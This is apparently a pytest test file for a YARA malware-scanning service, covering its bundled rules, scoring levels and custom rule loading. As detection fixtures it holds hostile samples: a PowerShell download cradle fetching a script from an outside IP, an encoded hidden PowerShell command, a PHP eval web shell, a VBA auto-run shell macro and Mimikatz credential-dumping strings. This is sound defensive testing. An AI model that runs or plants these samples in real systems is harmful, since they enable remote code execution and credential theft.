"""The YARA service: the bundled rules, their scoring, and rule sets handed over with set_rules."""

from __future__ import annotations

import base64
import os
from pathlib import Path

import msgspec
import pip._vendor.distlib as distlib
import pytest
import yara

from services.sdk.harness import run_service_once
from services.sdk.loader import load_service
from services.yara.ruleset import BUNDLED_DIR, bundled_rule_files, compile_rules, namespaces
from services.yara.scoring import INFO, MALICIOUS, SUSPICIOUS, level, listed
from services.yara.service import Yara

# Built from two halves so this test file is not itself flagged by a virus scanner.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PE = (Path(distlib.__file__).parent / "t64.exe").read_bytes()
CRADLE = b"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\n"


def yara_run(data: bytes, service: Yara | None = None, file_type: str = "unknown"):
    run = run_service_once(service or load_service("yara"), data, file_type=file_type)
    assert run.result.error is None
    assert not [s for s in run.result.sections if s.title == "Result warnings"]
    return run


def rules_matched(run) -> set[str]:
    return run.tags("file.rule.yara")


def write_rule(folder: Path, name: str, text: str) -> str:
    path = folder / name
    path.write_text(text)
    return str(path)


def with_upx_section_names(pe: bytes) -> bytes:
    """The real PE with its first two section names changed to UPX's: the table is at the same place."""
    at = pe.index(b".text\0\0\0")
    renamed = bytearray(pe)
    renamed[at:at + 8] = b"UPX0\0\0\0\0"
    renamed[at + 40:at + 48] = b"UPX1\0\0\0\0"
    return bytes(renamed)


def test_eicar_is_malicious_with_family_and_matched_string():
    run = yara_run(EICAR + b"\r\n", file_type="text/plain")
    section = run.section("Rule: EICAR_Test_File")
    assert rules_matched(run) == {"eicar.EICAR_Test_File"}
    assert run.tags("attribution.family") == {"EICAR-Test-File"}
    assert section.heuristic.heur_id == MALICIOUS and section.heuristic.signatures == ["EICAR_Test_File"]
    assert run.result.score == 1000
    body = msgspec.json.decode(section.body)
    assert body["namespace"] == "eicar" and body["author"] == "Sluice" and body["family"] == "EICAR-Test-File"
    [row] = msgspec.json.decode(run.section("Matched strings").body)
    assert row["identifier"] == "$eicar" and row["offset"] == "0x0"
    assert row["data"].startswith(r"X5O!P%@AP[4\\PZX54") and row["data"].endswith("…")


def test_clean_text_matches_nothing():
    run = yara_run(b"Meeting notes: ship the release on Friday, then review the backlog.\n", file_type="text/plain")
    assert run.result.sections == [] and run.result.score == 0


def test_clean_pe_matches_nothing():
    assert yara_run(PE, file_type="executable/windows/pe64").result.sections == []


@pytest.mark.parametrize(("data", "rule", "heuristic", "attacks"), [
    (CRADLE, "powershell.PowerShell_Download_Cradle", SUSPICIOUS, ["T1059.001", "T1105"]),
    (b"cmd /c powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n",
     "powershell.PowerShell_Encoded_Command", SUSPICIOUS, ["T1059.001", "T1027"]),
    (b"$b = '" + base64.b64encode(PE[:600]) + b"'\n", "embedded_pe.Base64_Encoded_PE", SUSPICIOUS, ["T1027"]),
    (b"Sub AutoOpen()\r\n  Dim r\r\n  r = Shell(\"cmd /c calc.exe\", vbHide)\r\nEnd Sub\r\n",
     "office_macro.VBA_AutoExec_Shell", SUSPICIOUS, ["T1059.005"]),
    (b"<?php @eval(base64_decode($_POST['x'])); ?>\n", "webshells.PHP_Webshell_Eval_Base64", SUSPICIOUS, ["T1505.003"]),
    (b"\x00" * 64 + "mimikatz # sekurlsa::logonpasswords".encode("utf-16-le") + b"\x00" * 64,
     "hacktools.HackTool_Mimikatz", MALICIOUS, ["T1003.001"]),
    (with_upx_section_names(PE), "packers.PE_UPX_Packed", INFO, ["T1027.002"]),
])
def test_bundled_rule_fires_its_heuristic(data, rule, heuristic, attacks):
    run = yara_run(data)
    assert rules_matched(run) == {rule}
    hit = run.section(f"Rule: {rule.split('.')[1]}").heuristic
    assert (hit.heur_id, hit.attack_ids) == (heuristic, attacks)


def test_family_from_meta_is_tagged():
    run = yara_run("sekurlsa::logonpasswords lsadump::sam".encode("utf-16-le"))
    assert run.tags("attribution.family") == {"Mimikatz"}


def test_matched_strings_are_capped():
    run = yara_run(CRADLE * 20, file_type="code/powershell")
    rows = msgspec.json.decode(run.section("Matched strings").body)
    assert run.section("Matched strings").title == "Matched strings (first 10 of 60)"
    assert len(rows) == 10 and rows[0]["offset"] == "0x0"


def test_unparseable_input_is_not_a_crash():
    assert yara_run(PE[:300]).result.sections == []  # a truncated PE: the pe module gives up quietly
    assert yara_run(os.urandom(4096)).result.error is None


def test_every_bundled_rule_has_the_required_meta():
    rules = list(compile_rules(bundled_rule_files()))
    assert len(rules) >= 8
    for rule in rules:
        assert rule.meta.get("description") and rule.meta.get("author") == "Sluice", rule.identifier
        assert "score" in rule.meta or "category" in rule.meta, rule.identifier


def test_bundled_rules_are_loaded_at_start_and_their_hash_is_the_tool_version():
    service = load_service("yara")
    service.start()
    assert service.rules_list == bundled_rule_files() and Path(service.rules_list[0]).parent == BUNDLED_DIR
    assert len(service.get_tool_version()) == 12


def test_set_rules_replaces_the_bundled_set(tmp_path):
    service = load_service("yara")
    service.start()
    bundled_version = service.get_tool_version()
    custom = write_rule(tmp_path, "custom.yar", """
        rule Greeting { meta: description = "says hello" score = 300 strings: $h = "hello" condition: $h }""")
    service.set_rules([custom])
    assert service.get_tool_version() != bundled_version
    assert rules_matched(yara_run(b"well hello there", service)) == {"custom.Greeting"}
    assert yara_run(EICAR, service).result.sections == []  # the bundled rules are gone


def test_broken_rules_raise_and_the_previous_set_stays(tmp_path):
    service = load_service("yara")
    service.start()
    version, paths = service.get_tool_version(), service.rules_list
    broken = write_rule(tmp_path, "broken.yar", "rule Broken { strings: $a = \"x\" condition: $b }")
    with pytest.raises(yara.SyntaxError):
        service.set_rules([broken])
    with pytest.raises(ValueError):
        service.set_rules([])
    assert (service.get_tool_version(), service.rules_list) == (version, paths)
    assert rules_matched(yara_run(EICAR, service)) == {"eicar.EICAR_Test_File"}


def test_signature_score_map_tunes_one_rule_by_name():
    manifest = load_service("yara").manifest
    heuristics = [msgspec.structs.replace(h, signature_score_map={"EICAR_Test_File": 0}) if h.heur_id == MALICIOUS else h
                  for h in manifest.heuristics]
    service = Yara(msgspec.structs.replace(manifest, heuristics=heuristics))
    run = yara_run(EICAR, service)
    assert run.heuristics == {MALICIOUS} and run.result.score == 0


class FailingRules:
    """Stands in for compiled rules whose matching fails the way libyara can."""

    def __init__(self, error: Exception) -> None:
        self.error = error

    def match(self, **kwargs):
        raise self.error


@pytest.mark.parametrize(("error", "title"), [
    (yara.TimeoutError("scan timed out"), "YARA scan timed out"),
    (yara.Error("could not map file"), "YARA scan failed"),
])
def test_matching_errors_become_a_section(error, title):
    service = load_service("yara")
    service.start()
    service.rules = FailingRules(error)
    run = yara_run(b"anything", service)
    assert [s.title for s in run.result.sections] == [title] and run.result.score == 0


def test_two_files_with_one_name_get_distinct_namespaces():
    assert namespaces(["a/rules.yar", "b/rules.yar", "c/other.yar"]) == {
        "rules": "a/rules.yar", "rules_2": "b/rules.yar", "other": "c/other.yar"}


@pytest.mark.parametrize(("meta", "expected"), [
    ({"score": 1000}, MALICIOUS),
    ({"score": "450"}, SUSPICIOUS),
    ({"score": 100, "category": "implant"}, INFO),  # score decides when present
    ({"category": "implant"}, MALICIOUS),
    ({"category": "Tool"}, SUSPICIOUS),
    ({"severity": "high"}, MALICIOUS),
    ({"severity": "low"}, INFO),
    ({"score": True}, INFO),
    ({}, INFO),
])
def test_level_from_meta(meta, expected):
    assert level(meta) == expected


def test_listed_meta_values():
    assert listed({"attack_id": "T1059.001, T1105"}, "attack_id") == ["T1059.001", "T1105"]
    assert listed({"attack_id": 5}, "attack_id") == [] and listed({}, "family") == []
